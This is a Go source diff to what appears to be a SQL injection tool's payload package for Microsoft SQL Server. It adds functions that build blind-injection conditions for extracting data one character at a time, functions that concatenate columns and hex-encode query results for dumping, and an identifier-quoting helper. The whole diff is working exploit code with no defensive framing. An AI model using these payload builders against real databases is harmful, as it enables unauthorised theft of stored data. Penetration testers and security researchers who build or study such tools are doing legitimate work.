@@ -1,6 +1,9 @@
 package payloads
 
-import "fmt"
+import (
+	"fmt"
+	"strings"
+)
 
 // MSSQLPayloads implements payloads for Microsoft SQL Server
 type MSSQLPayloads struct{}
@@ -41,6 +44,25 @@ func (m *MSSQLPayloads) GetCharPayload(query string, pos int, n int) string {
 	return fmt.Sprintf("ASCII(SUBSTRING(CONVERT(VARCHAR(8000),(%s)),%d,1))>%d", query, pos, n)
 }
 
+func (m *MSSQLPayloads) GetCodePayload(query string, pos int, n int) string {
+	// UNICODE() over NVARCHAR returns the code point
+	return fmt.Sprintf("UNICODE(SUBSTRING(CONVERT(NVARCHAR(4000),(%s)),%d,1))>%d", query, pos, n)
+}
+
+func (m *MSSQLPayloads) GetConcatPayload(columns []string, delim string) string {
+	// + instead of CONCAT() to support versions before 2012
+	cells := make([]string, len(columns))
+	for i, col := range columns {
+		cells[i] = fmt.Sprintf("ISNULL(CONVERT(NVARCHAR(4000),%s),'')", col)
+	}
+	return strings.Join(cells, fmt.Sprintf("+'%s'+", delim))
+}
+
+func (m *MSSQLPayloads) GetHexQuery(query string) string {
+	// NVARCHAR first so every value is UTF-16LE, style 2 (2008+) drops the 0x prefix
+	return fmt.Sprintf("CONVERT(VARCHAR(MAX),CONVERT(VARBINARY(MAX),CONVERT(NVARCHAR(MAX),(%s))),2)", query)
+}
+
 func (m *MSSQLPayloads) GetSubstringFunc() string {
 	return "SUBSTRING"
 }
@@ -52,3 +74,7 @@ func (m *MSSQLPayloads) GetLengthFunc() string {
 func (m *MSSQLPayloads) WrapCondition(condition string) string {
 	return condition
 }
+
+func (m *MSSQLPayloads) QuoteIdentifier(name string) string {
+	return quoteIdentifier(name, "[", "]", nil)
+}